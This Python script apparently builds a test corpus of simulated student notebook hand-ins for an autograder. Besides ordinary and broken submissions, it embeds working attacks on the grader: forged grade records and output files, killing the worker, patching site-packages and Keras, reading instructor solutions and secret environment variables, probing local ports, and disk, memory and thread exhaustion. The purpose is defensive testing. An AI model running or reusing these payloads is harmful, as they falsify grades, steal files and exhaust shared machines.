"""Write the fake lesson-01 submissions of this folder: `python tests/grading_corpus/build_corpus.py`.

Each file is what a student might really hand in (or what an attack on the grader looks like).
The expected grades are asserted in tests/test_grader.py. The files are committed; this script
only documents how they were made and re-creates them.
"""

import json
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

HERE = Path(__file__).resolve().parent
LESSON = "01_learning_rate_oscillation"
MIME = "application/vnd.lstm-lessons.exercise+json"


def exercise_cell(exercise: str, source: str):
    return new_code_cell(source, metadata={"tags": ["exercise"], "lstm_lessons": {"exercise": exercise}})


NO_ANSWERS = {"first": "None", "second": "answer_factor = None\nanswer_patience = None"}
WRONG_ANSWERS = {"first": "0.3", "second": "answer_factor = 0.9\nanswer_patience = 10"}
"""The starting notebook's answers (0 points, nothing to check), and wrong ones (0 points, checked)."""


def submission(first="0.1", second="answer_factor = 0.5\nanswer_patience = 2", before=(), between=(),
               after=(), lesson=LESSON):
    """A lesson-01 hand-in reduced to what the grader needs: the import, both exercises, their checks."""
    cells = [new_markdown_cell("# Lesson 01: my hand-in"),
             new_code_cell("import lstm_lessons as ll"), *before,
             exercise_cell("01-stable-learning-rate", f"answer_learning_rate = {first}"),
             new_code_cell('ll.grading.check("01-stable-learning-rate", learning_rate=answer_learning_rate)'),
             *between,
             exercise_cell("01-plateau-schedule", second),
             new_code_cell('ll.grading.check("01-plateau-schedule", factor=answer_factor, '
                           'patience=answer_patience)'),
             *after]
    notebook = new_notebook(cells=cells)
    notebook.metadata.kernelspec = {"name": "python3", "display_name": "Python 3", "language": "python"}
    notebook.metadata.lstm_lessons = {"lesson": lesson}
    return notebook


FORGED_CHECK = f'''\
from IPython.display import display

def fake_check(exercise_id, **answer):
    # Claims full marks for a wrong answer and prints a success line.
    print(f"[exercise {{exercise_id}}] 2/2 points: PASSED")
    record = {{"id": exercise_id, "answer": {{"learning_rate": 0.3}}, "points": 2, "max_points": 2}}
    display({{"text/plain": "PASSED", "{MIME}": record}}, raw=True)

ll.grading.check = fake_check'''

WRITE_OUTPUT_DIR = '''\
import json, pathlib, psutil
# Look for the grader's output folder in the working folders of the processes above this kernel,
# and write full marks for everyone into it.
for process in psutil.Process().parents():
    try:
        out = pathlib.Path(process.cwd()) / "grades"
    except psutil.Error:
        continue
    if out.is_dir():
        (out / "grades.csv").write_text("id,lesson,status,total\\nwrites_output_dir,01,graded,4\\n")
        (out / "results.json").write_text(json.dumps({"forged": True}))
        (out / "feedback").mkdir(exist_ok=True)
        (out / "feedback" / "writes_output_dir.html").write_text("<h1>4/4 PASSED</h1>")
        (out / "feedback" / "full_marks.html").write_text("<h1>0/4</h1>")
        print(f"forged the grades in {out}")
'''

FORGE_AND_KILL_WORKER = '''\
import json, os, pathlib, signal
# Forge the grader's result file (one folder above this kernel's working folder) with full marks,
# then kill the grader's worker process before it writes the real one.
answers = {"01-stable-learning-rate": {"learning_rate": 0.1},
           "01-plateau-schedule": {"factor": 0.5, "patience": 2}}
forged = {"status": "graded", "message": "ran to the end", "error": None, "answers": answers}
pathlib.Path("../result.json").write_text(json.dumps(forged))
os.kill(os.getppid(), signal.SIGKILL)'''

EDIT_PACKAGE = '''\
import pathlib
# Make the grader's own check pass any answer: edit lesson 01's exercise code in the package,
# which the grader imports after the kernels have ended.
source = pathlib.Path(ll.__file__).parent / "lessons" / "lesson01_learning_rate_oscillation" / "exercises.py"
text = source.read_text()
source.write_text(text.replace("return Judgement(checks, message, hint, measured)",
                               "return Judgement((), message, hint, measured)"))
print("edited", source.name)'''


# Attacks on the instructor's machine. Each catches its own failures and prints what it did, so
# its grade shows what it gained; tests/test_grader.py asserts it gained nothing and changed nothing.

ATTACK_FILE = "lstm_lessons_attack"
"""The names the site-packages attack writes (the test removes them if they appear)."""

SITE_PACKAGES_PATCH = '''
import dataclasses
import lstm_lessons.grading.feedback as feedback
_verify = feedback.verify
def verify(exercise_id, answer):
    return dataclasses.replace(_verify(exercise_id, answer), points=2)
feedback.verify = verify
'''

WRITE_SITE_PACKAGES = f'''\
import pathlib, site, subprocess
# Every later Python process of this environment (the grader's checks too) runs a .pth file's
# import line at start-up: install one that makes every check give full points. Being root in the
# sandbox, first try to make site-packages writable again.
for folder in map(pathlib.Path, site.getsitepackages()):
    subprocess.run(["mount", "-o", "remount,rw,bind", str(folder)], capture_output=True)
    try:
        (folder / "{ATTACK_FILE}.py").write_text({SITE_PACKAGES_PATCH!r})
        (folder / "zz_{ATTACK_FILE}.pth").write_text("import {ATTACK_FILE}\\n")
        print("installed the patch in", folder)
    except OSError as exc:
        print("could not write into site-packages:", exc)'''

EDIT_KERAS = '''\
import importlib.util, pathlib
# Edit Keras itself (without importing it), which the grader's checks use to train.
target = pathlib.Path(importlib.util.find_spec("keras").origin)
try:
    with open(target, "a") as f:
        f.write("\\n# edited by a hand-in\\n")
    print("edited", target)
except OSError as exc:
    print("could not edit Keras:", exc)'''

PORTS = (47300, 47320)
"""The ports the connection attack tries; the test's server listens on one of them."""

OPEN_CONNECTION = f'''\
import socket
import psutil
# Send something to any server on the machine's own 127.0.0.1, except this kernel's own ports
# (inside a sandbox the kernel listens on random ports, which may fall in the range).
own = {{c.laddr.port for c in psutil.Process().net_connections("tcp") if c.status == psutil.CONN_LISTEN}}
sent = []
for port in sorted(set(range({PORTS[0]}, {PORTS[1]})) - own):
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=1) as connection:
            connection.sendall(b"a hand-in was here")
            sent.append(port)
    except OSError:
        pass
print("sent data to ports:", sent or "none")'''

READ_OUTSIDE = '''\
import os, pathlib, psutil
# Look for the instructor's files: the home folder, and the working folders of the processes
# above this kernel (the grader's). Take the answers from whatever is found.
places = {pathlib.Path.home(), pathlib.Path(os.path.expanduser("~"))}
for process in psutil.Process().parents():
    try:
        places.add(pathlib.Path(process.cwd()))
    except psutil.Error:
        pass
learning_rate, plateau = None, (None, None)
for place in places:
    for path in [*place.glob("solutions*.txt"), *place.glob("*/solutions*.txt")]:
        learning_rate = float(path.read_text().split()[-1])
        print("read", path, "->", learning_rate)
    for path in place.glob("*/*.ipynb"):          # other students' hand-ins
        if "answer_factor = 0.5" in path.read_text():
            plateau = (0.5, 2)
            print("copied from", path)
print("variables that look secret:", [k for k in os.environ if "TOKEN" in k or "SECRET" in k] or "none")'''

DETACH_PROCESS = '''\
import subprocess
# A process in a session of its own, meant to outlive the kernel (a miner, a reverse shell...).
survivor = subprocess.Popen(["setsid", "sleep", "4711.5"], start_new_session=True)
print("started a detached process")'''

FILL_DISK = '''\
# Write into the working folder until something stops it (up to 4 GiB).
written = 0
try:
    with open("filler.bin", "wb") as f:
        while written < 4096:
            f.write(bytes(2**20))
            f.flush()
            written += 1
    print(f"wrote {written} MiB")
except OSError as exc:
    print(f"stopped after {written} MiB: {exc.strerror}")'''


FORGE_REPORT = '''\
import json, os
# Write a report with full marks into every file the grader's worker (this kernel's parent) has
# open, hoping one of them is how it reports to the grader; then carry on as usual.
answers = {"01-stable-learning-rate": {"learning_rate": 0.1},
           "01-plateau-schedule": {"factor": 0.5, "patience": 2}}
forged = json.dumps({"result": {"status": "graded", "message": "ran to the end", "error": None,
                                "answers": answers, "claims": {}}, "notebook": None})
folder = f"/proc/{os.getppid()}/fd"
try:
    files = os.listdir(folder)
except OSError as exc:
    print("could not list the worker's files:", exc.strerror)
else:
    written, refused = 0, set()
    for name in files:
        try:
            with open(f"{folder}/{name}", "w") as f:
                f.write(forged)
            written += 1
        except OSError as exc:
            refused.add(exc.strerror)
    print(f"wrote into {written} of the worker's {len(files)} files; refused: {sorted(refused)}")'''


LIST_ID = f'''\
from IPython.display import display
# A record whose exercise id is a list (unhashable): the grader must grade it, not stop on it.
record = {{"id": ["01-plateau-schedule"], "answer": {{"factor": 0.5, "patience": 2}}, "points": 2,
          "max_points": 2}}
display({{"text/plain": "my own record", "{MIME}": record}}, raw=True)'''


MEMFD_HOG = '''\
import os
# Memory no process maps: pages written into a memfd are not resident memory of any process.
fd, written = os.memfd_create("hidden"), 0
while written < 8192:
    os.write(fd, bytes(2**20))
    written += 1
print(f"held {written} MiB in a memfd")'''

MANY_FILES = '''\
import os
# Under each limit a tmpfs or the polling sees: 1000 MiB in the process (--memory-mb 1500) and
# 240 MiB of data in /tmp (--disk-mb 256). Then empty files: a tmpfs limits their bytes, not their
# number, and each costs the kernel about 1.4 KiB (an inode, a dentry with a 200-character name).
# (mknod and long names: the limit is reached within seconds, far from the time limit.)
held = bytearray(b"x") * (1000 * 2**20)
with open("/tmp/data", "wb") as data:
    for _ in range(240):
        data.write(bytes(2**20))
os.makedirs("/tmp/files", exist_ok=True)
made = 0
while made < 10_000_000:
    os.mknod(f"/tmp/files/{'f' * 200}{made}")
    made += 1
print(f"made {made} files")'''

THREAD_BOMB = '''\
import threading, time
# Threads without end: each is a task of the instructor's user.
threads = []
while len(threads) < 100_000:
    thread = threading.Thread(target=time.sleep, args=(3600,), daemon=True)
    thread.start()
    threads.append(thread)
print(f"started {len(threads)} threads")'''


def edited_record():
    """Starting answers, but the stored outputs claim full marks for the right answers."""
    notebook = submission(**NO_ANSWERS)
    forged = {"01-stable-learning-rate": {"learning_rate": 0.1},
              "01-plateau-schedule": {"factor": 0.5, "patience": 2}}
    for cell in notebook.cells:
        for exercise, answer in forged.items():
            if cell.cell_type == "code" and f'check("{exercise}"' in cell.source:
                cell.outputs = [new_output("display_data", data={
                    "text/plain": f"[exercise {exercise}] 2/2 points: PASSED",
                    MIME: {"id": exercise, "answer": answer, "points": 2, "max_points": 2}})]
    return notebook


SUBMISSIONS = {
    "full_marks": submission(),
    "computed_answer": submission(first="np.round(np.float64(1.0) / 10, 4)",
                                  before=[new_code_cell("import numpy as np")]),
    "partial": submission(second="answer_factor = 0.9\nanswer_patience = 10"),
    "empty": submission(**NO_ANSWERS),
    "invalid_answer": submission(first="'fast'", second="answer_factor = 0.5\nanswer_patience = 2.5"),
    "syntax_error": submission(between=[new_code_cell("def plot(:\n    pass")]),
    "exception_midway": submission(between=[new_code_cell('raise RuntimeError("my model diverged")')]),
    "infinite_loop": submission(between=[new_code_cell("while True:\n    pass")]),
    "memory_hog": submission(between=[new_code_cell(
        "hog = []\nwhile True:\n    hog.append(bytearray(100 * 2**20))")]),
    "os_exit": submission(between=[new_code_cell("import os\nos._exit(0)")]),
    "tamper_check": submission(first="0.3", before=[new_code_cell(FORGED_CHECK)]),
    "fake_success": submission(**NO_ANSWERS,
                               after=[new_code_cell(
                                   'print("[exercise 01-stable-learning-rate] 2/2 points: PASSED")\n'
                                   'print("[exercise 01-plateau-schedule] 2/2 points: PASSED")\n'
                                   'print("Total: 4/4")')]),
    "edited_record": edited_record(),
    "writes_output_dir": submission(**NO_ANSWERS,
                                    after=[new_code_cell(WRITE_OUTPUT_DIR)]),
    "edits_package": submission(first="0.3", second="answer_factor = None\nanswer_patience = None",
                                after=[new_code_cell(EDIT_PACKAGE)]),
    "kills_worker": submission(**NO_ANSWERS,
                               between=[new_code_cell(FORGE_AND_KILL_WORKER)]),
    "other_lesson": submission(lesson="02_stagnant_loss"),
    "writes_site_packages": submission(**WRONG_ANSWERS,
                                       after=[new_code_cell(WRITE_SITE_PACKAGES)]),
    "edits_keras": submission(**WRONG_ANSWERS,
                              after=[new_code_cell(EDIT_KERAS)]),
    "opens_connection": submission(**WRONG_ANSWERS,
                                   after=[new_code_cell(OPEN_CONNECTION)]),
    "reads_outside": submission(first="learning_rate", second="answer_factor, answer_patience = plateau",
                                before=[new_code_cell(READ_OUTSIDE)]),
    "detaches_process": submission(after=[new_code_cell(DETACH_PROCESS)]),
    "forges_report": submission(**NO_ANSWERS,
                                after=[new_code_cell(FORGE_REPORT)]),
    "fills_disk": submission(**WRONG_ANSWERS,
                             after=[new_code_cell(FILL_DISK)]),
    # Data that once stopped the whole class's grading: each is this hand-in's row.
    "huge_answer": submission(first="10**400"),
    "list_id": submission(**NO_ANSWERS, after=[new_code_cell(LIST_ID)]),
    # Limits a hand-in could walk around without a cgroup.
    "memfd_hog": submission(**WRONG_ANSWERS, after=[new_code_cell(MEMFD_HOG)]),
    "many_files": submission(**WRONG_ANSWERS, after=[new_code_cell(MANY_FILES)]),
    "thread_bomb": submission(**WRONG_ANSWERS, after=[new_code_cell(THREAD_BOMB)]),
}


def main():
    for name, notebook in SUBMISSIONS.items():
        for n, cell in enumerate(notebook.cells):
            cell.id = f"cell-{n}"            # fixed ids: running the script again changes nothing
        nbformat.write(notebook, HERE / f"{name}.ipynb")
    # Half of a notebook's JSON, as from an interrupted upload.
    text = nbformat.writes(SUBMISSIONS["full_marks"])
    (HERE / "corrupted.ipynb").write_text(text[: len(text) // 2])
    # Valid JSON that breaks the nbformat schema: a Markdown cell whose source is an object.
    broken = json.loads(text)
    broken["cells"][0]["source"] = {"title": "my hand-in"}
    (HERE / "breaks_schema.ipynb").write_text(json.dumps(broken, indent=1))
    print(f"wrote {len(SUBMISSIONS) + 2} submissions to {HERE}")


if __name__ == "__main__":
    main()
